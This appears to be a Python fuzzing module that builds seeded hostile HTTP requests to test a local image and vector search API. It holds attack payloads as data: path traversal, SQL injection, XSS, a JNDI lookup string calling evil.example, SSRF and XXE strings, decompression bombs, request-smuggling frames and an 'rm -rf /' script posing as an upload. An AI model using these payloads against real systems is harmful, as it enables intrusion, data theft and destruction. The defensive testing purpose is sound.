"""Hostile requests, made from a seed: the same seed gives the same bytes.

A request is what goes over the wire, so that nothing on the way makes it tidier. Families: JSON bodies, query strings,
forms, pictures, headers, paths and methods, framing of HTTP, and clients that go away.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any
from urllib.parse import quote

from PIL import Image

DIM = 24  # of the space that is searched
BOUNDARY = b"fuzz-7d1"
TOKEN = "known-to-the-service"  # strangers get no further than 401: these requests come from somebody who may do all


@dataclass(frozen=True)
class Request:
    """``data`` is sent as it is. ``complete``: an answer is due; otherwise the client leaves and expects none."""

    family: str
    data: bytes
    complete: bool = True


# ------------------------------------------------------------------------------------------------------- values

STRINGS = (
    "", " ", "a" * 5000, "\x00", "\x1b[2J", "\u202e", "\ufeff", "\U0001f4a3" * 100, "../../../../etc/passwd",
    "/etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data",
    "'; DROP TABLE items; --", "' OR 1=1 --", '" onload="alert(1)', "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "%s%n%x", "core:timm?model=../../x", "new=/etc",
    "dots/000.png", "\u0000dots/000.png", "NaN", "null", "true", "1e9",
)  # fmt: skip
# Written as they are into JSON: what `json.dumps` would not write.
TOKENS = (
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e-999", "9" * 400, "-" + "9" * 30, "0.1e", "01", "+1", ".5",
    "0x10", '"\\ud800"', '"\\udfff\\ud800"', '"\\u0000"', '"\\x"', "'a'", "undefined", "None", "{}", "[]", "[[[[]]]]",
    "null", "true", "-0", "-0.0", "9223372036854775808", "-9223372036854775809", "1.7976931348623157e308", "4.9e-324",
    '"' + "a" * 70000 + '"', "[" * 500 + "]" * 500, '{"a":' * 300 + "1" + "}" * 300,
)  # fmt: skip
NUMBERS = (
    "-1", "0", "1e3", "NaN", "inf", "9" * 30, "-" + "9" * 30, "1.5", "0x10", "", " 5", "5 ", "٣", "1_000", "true",
    "+5",
)  # fmt: skip


def _vector(rng: random.Random) -> list[float]:
    return [rng.gauss(0, 1) for _ in range(DIM)]


def _bodies(rng: random.Random) -> tuple[str, dict[str, Any]]:
    """A route that takes JSON, and a body that it would take."""
    where = rng.choice([None, {"label": "dots"}, {"label": ["dots", "bars"], "number": 3}])
    search = {"k": rng.randint(1, 20), "offset": rng.randint(0, 5), "where": where}
    known: list[tuple[str, dict[str, Any]]] = [
        ("/v1/search/text", {**search, "text": "a dot"}),
        ("/v1/search/item", {**search, "id": "dots/000.png"}),
        ("/v1/search/vector", {**search, "vector": _vector(rng)}),
        ("/v1/search/vector", {**search, "vectors": {"ab" * 32: _vector(rng)}}),
        ("/v1/compare/text", {**search, "text": "a dot"}),
        ("/v1/compare/item", {**search, "id": "dots/000.png"}),
        ("/v1/items/vectors", {"items": [{"id": "v", "metadata": {"a": 1}, "vector": _vector(rng)}]}),
        ("/v1/items/delete", {"ids": ["nobody", "v"]}),
        ("/v1/upgrade/plan", {"candidate": "nobody", "label_key": "label", "sample": 10}),
        ("/v1/upgrade/start", {"candidate": "nobody", "strategy": "core:compatible", "rate": 1.0, "max_nfr": 0.5}),
        ("/v1/upgrade/pause", {"id": 1}),
        ("/v1/upgrade/resume", {"id": 1}),
        ("/v1/upgrade/finish", {"id": 1, "accept_failed": True}),
        ("/v1/upgrade/rollback", {"id": 1, "leave_pending": False}),
    ]
    return rng.choice(known)


# ------------------------------------------------------------------------------------------------------- requests


def _http(
    method: str,
    target: str | bytes,
    body: bytes = b"",
    headers: list[tuple[bytes, bytes]] | None = None,
    *,
    length: bool = True,
) -> bytes:
    target = target.encode("latin-1") if isinstance(target, str) else target
    lines = [b"%s %s HTTP/1.1" % (method.encode(), target), b"Host: localhost", b"Connection: close", KNOWN]
    if length and (body or method != "GET"):
        lines.append(b"Content-Length: %d" % len(body))
    lines += [name + b": " + value for name, value in headers or []]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


KNOWN = b"Authorization: Bearer " + TOKEN.encode()
JSON = [(b"Content-Type", b"application/json")]


def json_body(rng: random.Random) -> Request:
    route, body = _bodies(rng)
    kind = rng.randrange(8)
    if kind == 0:  # one value is another one
        text = json.dumps(body)
        values = [json.dumps(value) for value in (*body.values(), *_leaves(body))]
        old = rng.choice(values)
        new = rng.choice([rng.choice(TOKENS), json.dumps(rng.choice(STRINGS)), rng.choice(values)])
        data = text.replace(old, new, 1).encode("utf-8", "surrogatepass")
    elif kind == 1:  # a key less, a key more
        changed = dict(body)
        changed.pop(rng.choice(list(changed)))
        if rng.random() < 0.5:
            changed[rng.choice(STRINGS)] = rng.choice(STRINGS)
        data = json.dumps(changed).encode()
    elif kind == 2:  # a key twice
        key = rng.choice(list(body))
        data = (json.dumps(body)[:-1] + f", {json.dumps(key)}: {rng.choice(TOKENS)}}}").encode()
    elif kind == 3:  # cut off, or with something behind
        data = json.dumps(body).encode()
        data = data[: rng.randrange(len(data))] if rng.random() < 0.7 else data + b"{}"
    elif kind == 4:  # bytes that are no UTF-8, or another encoding
        data = json.dumps(body).encode(rng.choice(["utf-16", "utf-32-be", "utf-8-sig", "utf-7", "cp037"]))
        if rng.random() < 0.5:
            data = _flipped(rng, data, 4)
    elif kind == 5:  # deep
        depth = rng.choice([50, 900, 20_000, 200_000])
        data = rng.choice([b"[", b'{"a":', b'[{"vector":']) * depth
    elif kind == 6:  # not an object
        data = rng.choice(TOKENS).encode()
    else:  # many
        count = rng.choice([1000, 70_000])
        data = json.dumps(
            rng.choice(
                [
                    {"ids": ["x"] * count},
                    {"vector": [0] * count},
                    {"vector": [1e308] * DIM},
                    dict.fromkeys(map(str, range(count))),
                ]
            )
        ).encode()
    return Request("json", _http("POST", route, data, JSON))


def _leaves(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [leaf for part in value.values() for leaf in _leaves(part)] + list(value)
    if isinstance(value, list):
        return [leaf for part in value for leaf in _leaves(part)]
    return [value]


QUERIES = (
    ("/v1/item", ("id",)), ("/v1/thumbnail", ("id", "size")), ("/v1/items", ("after", "limit")),
    ("/v1/gallery", ("x",)), ("/v1/upgrade", ("x",)), ("/v1/upgrade/plan", ("x",)), ("/health", ("x",)),
    ("/ready", ("x",)), ("/metrics", ("name[]",)),
)  # fmt: skip


def query_string(rng: random.Random) -> Request:
    path, names = rng.choice(QUERIES)
    pairs = []
    for _ in range(rng.choice([1, 1, 2, 3, 300])):
        name = rng.choice([*names, rng.choice(STRINGS)])
        value = rng.choice([*STRINGS, *NUMBERS, "dots/000.png"])
        written = rng.choice(["%ff", "%", "%zz", "%ed%a0%80", "%00", "+&=;"]) if rng.random() < 0.2 else quote(value)
        pairs.append(f"{quote(name)}={written}")
    return Request("query", _http("GET", f"{path}?{'&'.join(pairs)}"))


# ------------------------------------------------------------------------------------------------------- forms

NAMES = (
    b"query.png", b"../../etc/passwd", b"a\x00.png", b"a\".png", b"\xff\xfe", b"a" * 3000, b"", b"CON",
    b"<img src=x>.png", b"a.png\"; name=\"k", b"..", b"/dev/zero", b"a.svg", b"a.php",
)  # fmt: skip


def _part(name: bytes, value: bytes, *, file: bytes | None = None, more: bytes = b"") -> bytes:
    disposition = b'Content-Disposition: form-data; name="%s"' % name
    if file is not None:
        disposition += b'; filename="%s"\r\nContent-Type: %s' % (file, b"image/png")
    return b"--%s\r\n%s%s\r\n\r\n%s\r\n" % (BOUNDARY, disposition, more, value)


def _form(route: str, parts: list[bytes], *, kind: bytes = b"multipart/form-data; boundary=" + BOUNDARY) -> bytes:
    return _http("POST", route, b"".join(parts) + b"--%s--\r\n" % BOUNDARY, [(b"Content-Type", kind)])


def form(rng: random.Random) -> Request:
    picture = _pictures()[rng.choice(["PNG", "JPEG"])]
    search = rng.random() < 0.5
    route = rng.choice(["/v1/search/image", "/v1/compare/image"]) if search else "/v1/items?on_error=" + rng.choice(
        ["raise", "skip", "", "x"]
    )  # fmt: skip
    items = json.dumps([{"id": "up", "metadata": {"a": 1}}]).encode()
    good = [_part(b"file", picture, file=b"q.png"), _part(b"k", b"5")] if search else [
        _part(b"items", items), _part(b"files", picture, file=b"q.png")
    ]  # fmt: skip
    number = rng.randrange(11)
    if number == 0:
        value = rng.choice([*TOKENS, *STRINGS, *NUMBERS]).encode("utf-8", "surrogatepass")
        data = _form(route, [*good, _part(rng.choice([b"where", b"k", b"offset", b"items"]), value)])
    elif number == 1:  # many parts
        part = rng.choice([_part(b"x", b"1"), _part(b"files", b"1", file=b"f"), _part(b"file", b"", file=b"f")])
        data = _form(route, [*good, part * rng.choice([20, 2000, 20_000])])
    elif number == 2:  # no boundary, another one, a strange one
        kinds = (b"multipart/form-data", b"multipart/form-data; boundary=", b"multipart/form-data; boundary=other",
                 b"multipart/mixed; boundary=" + BOUNDARY, b"multipart/form-data; boundary=\"" + BOUNDARY, b"\xff",
                 b"multipart/form-data; boundary=" + b"x" * 3000, b"application/x-www-form-urlencoded", b"image/png",
                 b"multipart/form-data; charset=utf-7; boundary=" + BOUNDARY,
                 b"multipart/form-data; charset=punycode; boundary=" + BOUNDARY)  # fmt: skip
        data = _form(route, good, kind=rng.choice(kinds))
    elif number == 3:  # names of files
        data = _form(route, [_part(b"file" if search else b"files", picture, file=rng.choice(NAMES)), *good[::-1]])
    elif number == 4:  # cut off
        whole = b"".join(good) + b"--%s--\r\n" % BOUNDARY
        body = whole[: rng.randrange(len(whole))]
        data = _http("POST", route, body, [(b"Content-Type", b"multipart/form-data; boundary=" + BOUNDARY)])
    elif number == 5:  # heads of parts
        lines = (
            b"X: " + b"a" * 50_000,
            b"\r\nX: 1" * 5000,
            b"X",
            b": 1",
            b"\xff: \xff",
            b"Content-Transfer-Encoding: base64",
        )
        more = b"\r\n" + rng.choice([*lines, b"Content-Disposition: form-data; name=k"])
        data = _form(route, [_part(b"k" if search else b"items", b"[]", more=more), *good])
    elif number == 6:  # a form within a form, and text before and behind
        first = rng.choice([b"preamble\r\n" * 100, _part(b"file", b"".join(good), file=b"f"), b"\r\n" * 500])
        data = _form(route, [first, *good])
    elif number == 7:  # counts that do not fit, ids twice
        many = json.dumps([{"id": rng.choice(["a", "b", "a" * 2000])} for _ in range(rng.choice([0, 2, 5, 500]))])
        files = [_part(b"files", picture, file=b"f")] * rng.choice([0, 1, 2, 100])
        data = _form("/v1/items", [_part(b"items", many.encode()), *files])
    elif number == 8:  # a file where text belongs, and text where a file belongs
        swapped = _part(b"k" if search else b"items", picture, file=b"f")
        data = _form(route, [swapped, _part(b"file", b"text"), _part(b"files", b"text")])
    elif number == 9:  # a larger one than is taken
        data = _form(route, [_part(b"file", b"\x89PNG" + bytes(5 * 2**20), file=b"f")])
    else:
        data = _form(route, [_flipped(rng, b"".join(good), 10)])
    return Request("form", data)


# ------------------------------------------------------------------------------------------------------- pictures


@cache
def _pictures() -> dict[str, bytes]:
    """A small picture in every format that Pillow writes here."""
    image = Image.linear_gradient("L").resize((48, 40)).convert("RGB")
    made = {}
    for kind in ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP", "PPM", "AVIF", "JPEG2000", "ICO", "TGA", "PDF", "EPS"):
        file = io.BytesIO()
        try:
            image.save(file, kind)
        except (KeyError, OSError):  # not built in
            continue
        made[kind] = file.getvalue()
    return made


def png(width: int, height: int, pixels: bytes, *, depth: int = 8, colour: int = 2, chunks: bytes = b"") -> bytes:
    """A PNG with any header, of any pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunks + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@cache
def _bombs() -> tuple[bytes, ...]:
    packed = zlib.compress(bytes(20_000_000), 9)
    text = b"zTXtbomb\x00\x00" + zlib.compress(b"a" * 50_000_000, 9)
    ztxt = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    tiff = b"II*\x00\x08\x00\x00\x00\x04\x00" + b"".join(
        struct.pack("<HHII", tag, 4, count, value)
        for tag, count, value in ((256, 1, 2**31 - 1), (257, 1, 2**31 - 1), (273, 2**30, 8), (279, 2**30, 8))
    )
    return (
        png(100_000, 100_000, packed),
        png(2**31 - 1, 2**31 - 1, b""),
        png(0, 0, b""),
        png(7900, 7900, packed, colour=6),  # not one pixel too many, and pixels that never come
        png(48, 40, packed),
        png(48, 40, zlib.compress(bytes(48 * 40 * 4)), chunks=ztxt),
        png(48, 40, zlib.compress(bytes(48 * 40 * 8)), depth=16),
        tiff + bytes(4),
        b"BM" + struct.pack("<IHHIIiiHH", 54, 0, 0, 54, 40, 2**31 - 1, -(2**31), 1, 24) + bytes(24),
        b"P6 99999999 99999999 255\n",
        b"P6 1 1 99999999999999999999\n\x00",
        b"GIF89a\xff\xff\xff\xff\xf7\x00\x00" + bytes(768) + b"," + bytes(9) + b"\x08\xff" * 200,
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
        b"\xff\xd8" + b"\xff\xe1\xff\xff" * 1000,
        b"\xff\xd8" + b"\xff\xe2\xff\xffICC_PROFILE\x00\x01\xff" + bytes(70_000),
        b"RIFF\xff\xff\xff\xffWEBPVP8X" + bytes(30),
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(/etc/passwd) (r) file\nshowpage\n",
        b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b"PK\x03\x04" + bytes(200),
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript>>>>endobj",
        b"\x1f\x8b\x08" + bytes(100),
        b"\x00\x00\x00\x1cftypavif" + bytes(100),
        b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(100),
        b"#!/bin/sh\nrm -rf /\n",
        b"",
        b"\x00" * 1000,
    )  # fmt: skip


def picture(rng: random.Random) -> Request:
    if rng.random() < 0.3:
        data = rng.choice(_bombs())
    else:
        data = rng.choice(list(_pictures().values()))
        data = _flipped(rng, data, rng.choice([1, 3, 30]))
        if rng.random() < 0.3:
            data = data[: rng.randrange(len(data) + 1)]
        if rng.random() < 0.1:
            data = data + rng.choice(list(_pictures().values()))
    if rng.random() < 0.7:
        return Request("picture", _form("/v1/search/image", [_part(b"file", data, file=b"q.png")]))
    name = f"fuzz {rng.randrange(50)}"
    items = json.dumps([{"id": name}]).encode()
    error = rng.choice(["raise", "skip"])
    return Request(
        "picture", _form(f"/v1/items?on_error={error}", [_part(b"items", items), _part(b"files", data, file=b"q.png")])
    )


def _flipped(rng: random.Random, data: bytes, most: int) -> bytes:
    changed = bytearray(data)
    for _ in range(rng.randint(1, most)):
        if changed:
            changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


# ------------------------------------------------------------------------------------------------- headers and paths

HEADERS = (
    (b"Host", b"evil.example"), (b"Host", b""), (b"Host", b"localhost:x"), (b"Host", b"a" * 5000),
    (b"Origin", b"https://evil.example"), (b"Origin", b"null"), (b"Origin", b"\xff"), (b"Origin", b"http://["),
    (b"Sec-Fetch-Site", b"cross-site"), (b"Authorization", b"Bearer \xff\xff"), (b"Authorization", b"Basic Og=="),
    (b"Authorization", b"Digest " + b"a" * 9000), (b"Range", b"bytes=0-,5-"), (b"Range", b"bytes=" + b"0-1," * 3000),
    (b"If-None-Match", b"*"), (b"If-None-Match", b"\xff" * 100), (b"If-Modified-Since", b"never"),
    (b"Content-Encoding", b"gzip"), (b"Content-Encoding", b"br, gzip"), (b"Accept", b"\xff"),
    (b"Accept-Encoding", b"gzip;q=nan"), (b"Transfer-Encoding", b"gzip"), (b"Expect", b"200-maybe"),
    (b"Upgrade", b"h2c"), (b"Upgrade", b"websocket"), (b"Cookie", b"a=" + b"b" * 8000),
    (b"X-HTTP-Method-Override", b"DELETE"), (b"X-Forwarded-For", b"127.0.0.1"),
    (b"X-Forwarded-Host", b"evil.example"), (b"X-Original-URL", b"/metrics"), (b"Forwarded", b"for=127.0.0.1"),
    (b"X-User", b"admin"), (b"Content-Type", b"application/json; charset=utf-7"), (b"Content-Type", b"\xff\xff"),
    (b"Content-Type", b"application/json" * 500), (b"Content-Length", b"5"),
    (b"Content-Length", b"18446744073709551616"), (b"Content-Length", b"0x5"), (b"TE", b"trailers"), (b"", b"x"),
    (b"X Y", b"1"), (b"X\x00", b"1"), (b"X", b"a\x00b"), (b"X", b"a\rb"), (b"X" * 70_000, b"1"),
    (b"X", b"1" * 70_000), (b"Access-Control-Request-Method", b"POST"),
)  # fmt: skip
METHODS = (
    "GET", "POST", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "CONNECT", "BREW", "get",
    "M-SEARCH",
)  # fmt: skip
PATHS = (
    "/", "/page/", "/page/app.js", "/page/../settings.py", "/page/..%2f..%2fsettings.py", "/page/%2e%2e/x",
    "/page/%00", "/page//etc/passwd", "/page/__init__.py", "/page/app.js/", "//", "///v1/gallery", "/v1//gallery",
    "/v1/gallery/", "/V1/gallery", "/v1/gallery;a=b", "/v1/gallery%00", "/v1/%2e%2e/v1/gallery", "/.env",
    "/.git/config", "/docs", "/redoc", "/openapi.json", "/metrics/", "*", "http://evil.example/v1/gallery",
    "http://localhost", "/\xff\xfe", "/%ff%fe", "/%", "/" + "a" * 15_000, "/" + "../" * 500, "/v1/search/image",
    "/v1/items", "/v1/gallery", "/v1/upgrade/plan", "/v1/thumbnail?id=dots/000.png", "?", "#", "/v1/item?id=a#b",
)  # fmt: skip


def headers(rng: random.Random) -> Request:
    route, body = rng.choice([("/v1/gallery", None), ("/", None), _bodies(rng), _bodies(rng)])
    method = "GET" if body is None else "POST"
    chosen = rng.choices(HEADERS, k=rng.choice([1, 1, 2, 5]))
    if rng.random() < 0.05:
        chosen = [(b"X-%d" % number, b"1") for number in range(rng.choice([90, 3000]))]
    data = b"" if body is None else json.dumps(body).encode()
    return Request("headers", _http(method, route, data, [*JSON, *chosen] if data else chosen))


def path(rng: random.Random) -> Request:
    method, target = rng.choice(METHODS), rng.choice(PATHS)
    body = b"" if method in ("GET", "HEAD") else rng.choice([b"", b"{}", b"a" * 100])
    return Request("path", _http(method, target, body))


# ------------------------------------------------------------------------------------------------------------ framing

_POST = b"POST /v1/search/text HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + KNOWN + b"\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
_HIDDEN = b"GET /v1/hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
FRAMES = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET\r\n\r\n",
    b"GET /\r\n\r\n", b"GET / HTTP/1.1\nHost: localhost\n\n", b"GET / HTTP/3.0\r\n\r\n", b"GET  /  HTTP/1.1\r\n\r\n",
    b"\r\n" * 100 + b"GET", b"GET / HTTP/1.1\r\n Host: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : localhost\r\n\r\n", b"GET / HTTP/1.1\r\nHost\r\n\r\n", b"GET / HTTP/1.0\r\n\r\n",
    b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n", b"SSH-2.0-x\r\n", b"\x00" * 100, b"\xff" * 100, b"{}\r\n\r\n",
    _POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    _POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + _HIDDEN,
    _POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    _POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    _POST + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}" + _HIDDEN, _POST + b"Content-Length: -1\r\n\r\n",
    _POST + b"Content-Length: 2, 2\r\n\r\n{}", _CHUNKED + b"2\r\n{}\r\n0\r\n\r\n", _CHUNKED + b"zz\r\n",
    _CHUNKED + b"-1\r\n{}", _CHUNKED + b"2;" + b"a" * 70_000 + b"\r\n{}\r\n0\r\n\r\n",
    _CHUNKED + b"2\r\n{}\r\n0\r\nX: 1\r\nContent-Length: 7\r\n\r\n", _CHUNKED + b"ffffffffffffffffff\r\n",
    _CHUNKED + b"2\r\n{}XX0\r\n\r\n", _CHUNKED + b"1\r\n{\r\n" * 3000 + b"0\r\n\r\n",
    _CHUNKED + b"0\r\n" + b"X: 1\r\n" * 20_000 + b"\r\n", _POST + b"Content-Length: 99999999999\r\n\r\n",
    _POST + b"Expect: 100-continue\r\nContent-Length: 99999999999\r\n\r\n",
    b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20,
    b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n" + b"\x00" * 10,
)  # fmt: skip


def framing(rng: random.Random) -> Request:
    if rng.random() < 0.6:
        return Request("framing", rng.choice(FRAMES))
    route, body = _bodies(rng)
    return Request("framing", _flipped(rng, _http("POST", route, json.dumps(body).encode(), JSON)[:400], 12))


def leaving(rng: random.Random) -> Request:
    """A client that says too little, or goes away before its answer."""
    whole = rng.choice([form, json_body, picture])(rng).data
    end = rng.choice([rng.randrange(1, len(whole)), min(len(whole), 200), len(whole)])
    return Request("leaving", whole[:end], complete=False)


FAMILIES: tuple[tuple[Callable[[random.Random], Request], int], ...] = (
    (json_body, 25), (query_string, 14), (form, 14), (picture, 16), (headers, 10), (path, 8), (framing, 8), (leaving, 5)
)  # fmt: skip


def hostile_request(number: int, seed: int) -> Request:
    """Request ``number`` of the run with this seed, whatever came before it."""
    rng = random.Random(f"{seed} {number}")
    makers, weights = zip(*FAMILIES, strict=True)
    return rng.choices(makers, weights)[0](rng)
